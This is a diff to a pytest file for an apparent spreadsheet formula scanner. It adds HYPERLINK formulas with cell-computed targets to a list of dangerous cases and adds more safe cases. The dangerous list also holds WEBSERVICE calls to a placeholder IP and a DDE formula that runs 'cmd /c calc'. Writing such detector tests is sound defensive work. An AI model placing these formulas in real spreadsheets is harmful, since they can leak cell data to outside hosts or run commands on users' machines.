@@ -34,11 +34,17 @@ DANGEROUS = [
     # Not condition keywords: the function name after "cell-content-" is judged like any other.
     'of:=cell-content-WEBSERVICE("http://203.0.113.5/")', 'of:=cell-content-DDE("cmd";"/c calc";"A1")',
     'of:=CELL-CONTENT-IS-BETWEEN(WEBSERVICE("http://203.0.113.5/");1)',
+    # HYPERLINK whose target is computed from cells: the address it opens is not in the file.
+    'of:=HYPERLINK("https://203.0.113.5/?id="&[.B1];"開く")', 'of:=HYPERLINK(CONCATENATE("https://";[.B1]))',
+    'of:=HYPERLINK([.B1];"開く")', 'of:=HYPERLINK(TEXTJOIN("";1;"https://x.jp/";[.B1]))',
+    'of:=HYPERLINK(COM.MICROSOFT.CONCAT("https://";[$Sheet2.A1]))',
 ]
 SAFE = ["of:=SUM([.A1:.A3])", "of:=[.A1]*2", "of:=['集計 2'.B2]+[$Sheet1.$A$1]", 'of:=HYPERLINK("https://x.jp/")',
         'of:=IF([.A1]>0;"a|b#c";"file:")', "of:=INDIRECT(ADDRESS(1;2))", "ooow:<A1>+<A2>", "of:=ISERROR(#N/A)",
         # Conditional-format conditions: ODF wrappers, not the FORMULA() function.
-        'is-true-formula([.$E2]="超過")', "cell-content-is-between(1;5)", "cell-content()>3"]
+        'is-true-formula([.$E2]="超過")', "cell-content-is-between(1;5)", "cell-content()>3",
+        'of:=HYPERLINK("https://www.city.example.lg.jp/";"市")', 'of:=HYPERLINK("https://x.jp/" & "a/";[.B1])',
+        'of:="HYPERLINK("&[.B1]&")"']
 
 
 @pytest.mark.parametrize("f", DANGEROUS)
